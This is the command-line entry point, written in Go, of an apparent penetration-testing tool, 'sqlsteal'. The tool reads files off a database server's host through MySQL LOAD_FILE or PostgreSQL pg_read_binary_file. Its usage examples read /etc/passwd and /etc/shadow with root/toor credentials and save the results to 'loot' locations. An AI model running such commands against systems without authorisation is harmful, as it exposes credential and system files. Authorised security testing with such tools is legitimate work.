package cmd

import (
	"fmt"
	"os"

	"github.com/google/uuid"
	"github.com/rs/zerolog"
	"github.com/spf13/cobra"
	"golang.org/x/term"

	"github.com/opensandbox/sqlsteal/internal/config"
	"github.com/opensandbox/sqlsteal/internal/fetch"
	"github.com/opensandbox/sqlsteal/internal/journal"
	"github.com/opensandbox/sqlsteal/internal/logging"
	"github.com/opensandbox/sqlsteal/internal/metrics"
	"github.com/opensandbox/sqlsteal/internal/runner"
	"github.com/opensandbox/sqlsteal/internal/storage"
)

var (
	saveDir     string
	configFile  string
	driver      string
	dbUser      string
	dbPassword  string
	askPass     bool
	port        int
	database    string
	escape      bool
	compress    bool
	journalPath string
	metricsFile string
	logLevel    string
)

var rootCmd = &cobra.Command{
	Use:   "sqlsteal HOST FILE",
	Short: "Download files through a database server",
	Long: `sqlsteal reads FILE from the machine HOST's database server runs on, using
the server's own file-read function (MySQL LOAD_FILE, PostgreSQL
pg_read_binary_file). The account needs the FILE privilege (MySQL) or
pg_read_server_files (PostgreSQL).

Text files are printed to stdout. Directories and binary files are reported
on stderr unless -s is given, in which case the file is saved under DIR.`,
	Example: `  sqlsteal 10.0.0.5 /etc/passwd
  sqlsteal -u root -p toor 10.0.0.5 /etc/shadow -s ./loot
  sqlsteal -d postgres -u postgres db.internal:5433 /etc/hosts
  sqlsteal 10.0.0.5 /var/lib/mysql-files/dump.bin -s s3://loot/engagement-42`,
	Args:          cobra.ExactArgs(2),
	SilenceUsage:  true,
	SilenceErrors: true,
	RunE:          runSteal,
}

// Execute runs the root command.
func Execute() error {
	return rootCmd.Execute()
}

func init() {
	f := rootCmd.Flags()
	f.StringVarP(&saveDir, "save", "s", "", "save file under DIR (local dir, s3://bucket/prefix or azblob://container/prefix) instead of printing it")
	f.StringVarP(&driver, "driver", "d", "", "database driver: mysql or postgres")
	f.StringVarP(&dbUser, "user", "u", "", "database user (default: current OS user)")
	f.StringVarP(&dbPassword, "password", "p", "", "database password")
	f.BoolVar(&askPass, "ask-pass", false, "prompt for the database password")
	f.IntVarP(&port, "port", "P", 0, "port when HOST has none (default: driver default)")
	f.StringVar(&database, "database", "", "database to connect to (postgres default: postgres)")
	f.BoolVar(&escape, "escape", false, "escape quotes in FILE before embedding it in the query")
	f.BoolVar(&compress, "compress", false, "zstd-compress saved files")
	rootCmd.PersistentFlags().StringVar(&journalPath, "journal", "", "SQLite journal recording each retrieval")
	f.StringVar(&metricsFile, "metrics-file", "", "write Prometheus metrics to this file after the run")
	rootCmd.PersistentFlags().StringVar(&configFile, "config", os.Getenv("SQLSTEAL_CONFIG"), "YAML config file")
	f.StringVar(&logLevel, "log-level", "", "log level (debug, info, warn, error)")
	f.SortFlags = false
}

func runSteal(cmd *cobra.Command, args []string) error {
	host, path := args[0], args[1]

	bootLog, err := logging.New(os.Stderr, logLevel)
	if err != nil {
		return err
	}
	cfg, err := config.Load(configFile, bootLog)
	if err != nil {
		return err
	}
	if err := applyFlags(cmd, cfg); err != nil {
		return err
	}
	if err := cfg.Validate(); err != nil {
		return err
	}

	log, err := logging.New(os.Stderr, cfg.LogLevel)
	if err != nil {
		return err
	}

	backend, err := fetch.NewBackend(cfg.Driver)
	if err != nil {
		return err
	}

	r := &runner.Runner{
		Fetcher: fetch.NewFetcher(backend, cfg.Target(host), cfg.Escape, log),
		Stdout:  cmd.OutOrStdout(),
		Stderr:  cmd.ErrOrStderr(),
		Log:     log,
		Driver:  backend.Name(),
		Host:    host,
		RunID:   uuid.NewString(),
	}

	if saveDir != "" {
		sink, err := storage.Open(cmd.Context(), saveDir, cfg.StorageOptions())
		if err != nil {
			return fmt.Errorf("failed to open destination: %w", err)
		}
		r.Sink = sink
	}

	if cfg.JournalPath != "" {
		j, err := journal.Open(cfg.JournalPath)
		if err != nil {
			return err
		}
		defer j.Close()
		r.Journal = j
	}

	if cfg.MetricsFile != "" {
		defer writeMetrics(cfg.MetricsFile, log)
	}

	return r.Run(cmd.Context(), path)
}

// applyFlags lets explicitly set flags override file and env configuration.
func applyFlags(cmd *cobra.Command, cfg *config.Config) error {
	f := cmd.Flags()
	if f.Changed("driver") {
		cfg.Driver = driver
	}
	if f.Changed("user") {
		cfg.User = dbUser
	}
	if f.Changed("password") {
		cfg.Password = dbPassword
	}
	if f.Changed("port") {
		cfg.Port = port
	}
	if f.Changed("database") {
		cfg.Database = database
	}
	if f.Changed("escape") {
		cfg.Escape = escape
	}
	if f.Changed("compress") {
		cfg.Compress = compress
	}
	if f.Changed("journal") {
		cfg.JournalPath = journalPath
	}
	if f.Changed("metrics-file") {
		cfg.MetricsFile = metricsFile
	}
	if f.Changed("log-level") {
		cfg.LogLevel = logLevel
	}

	if askPass {
		pw, err := promptPassword()
		if err != nil {
			return err
		}
		cfg.Password = pw
	}
	return nil
}

func promptPassword() (string, error) {
	fd := int(os.Stdin.Fd())
	if !term.IsTerminal(fd) {
		return "", fmt.Errorf("--ask-pass needs a terminal on stdin")
	}
	fmt.Fprint(os.Stderr, "Password: ")
	pw, err := term.ReadPassword(fd)
	fmt.Fprintln(os.Stderr)
	if err != nil {
		return "", fmt.Errorf("failed to read password: %w", err)
	}
	return string(pw), nil
}

func writeMetrics(path string, log zerolog.Logger) {
	if err := metrics.WriteFile(path); err != nil {
		log.Warn().Err(err).Str("file", path).Msg("failed to write metrics")
	}
}
